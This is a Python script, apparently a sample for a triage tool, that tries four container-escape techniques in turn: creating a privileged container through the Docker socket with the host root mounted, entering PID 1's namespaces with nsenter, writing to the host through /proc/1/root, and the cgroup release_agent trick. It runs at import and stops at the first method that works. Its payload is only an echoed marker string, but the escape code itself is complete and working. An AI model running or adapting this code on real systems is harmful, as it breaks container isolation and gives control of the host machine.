import http.client
import json
import os
import socket
import subprocess

SOCK = "/var/run/docker.sock"
MARK = "echo pytriage-sample-escape"


class UnixHTTP(http.client.HTTPConnection):
    def __init__(self, path):
        super().__init__("localhost")
        self.path = path

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect(self.path)


def docker(method, url, body=None):
    c = UnixHTTP(SOCK)
    c.request(method, url, body=json.dumps(body) if body else None,
              headers={"Content-Type": "application/json"})
    return json.loads(c.getresponse().read() or b"{}")


def via_docker_sock():
    spec = {
        "Image": "alpine:3.19",
        "Cmd": ["chroot", "/host", "sh", "-c", MARK],
        "HostConfig": {"Binds": ["/:/host"], "Privileged": True, "PidMode": "host"},
    }
    cid = docker("POST", "/containers/create", spec)["Id"]
    docker("POST", "/containers/%s/start" % cid)


def via_nsenter():
    subprocess.call(["nsenter", "--target", "1", "--mount", "--uts", "--ipc",
                     "--net", "--pid", "--", "sh", "-c", MARK])


def via_proc_root():
    with open("/proc/1/root/etc/hostname") as f:
        print(f.read().strip())
    with open("/proc/1/root/tmp/.pt", "w") as f:
        f.write(MARK + "\n")


def via_release_agent():
    d = "/tmp/cgrp"
    os.makedirs(d, exist_ok=True)
    subprocess.call(["mount", "-t", "cgroup", "-o", "rdma", "cgroup", d])
    os.makedirs(d + "/x", exist_ok=True)
    with open(d + "/x/notify_on_release", "w") as f:
        f.write("1")
    host_path = ""
    for line in open("/etc/mtab"):
        if " / " in line and "upperdir=" in line:
            host_path = line.split("upperdir=")[1].split(",")[0]
    with open(d + "/release_agent", "w") as f:
        f.write(host_path + "/cmd")
    with open("/cmd", "w") as f:
        f.write("#!/bin/sh\n" + MARK + " > " + host_path + "/output\n")
    os.chmod("/cmd", 0o755)
    subprocess.call(["sh", "-c", "echo $$ > " + d + "/x/cgroup.procs"])


for fn in (via_docker_sock, via_nsenter, via_proc_root, via_release_agent):
    if fn is via_docker_sock and not os.path.exists(SOCK):
        continue
    try:
        fn()
        break
    except Exception:
        continue
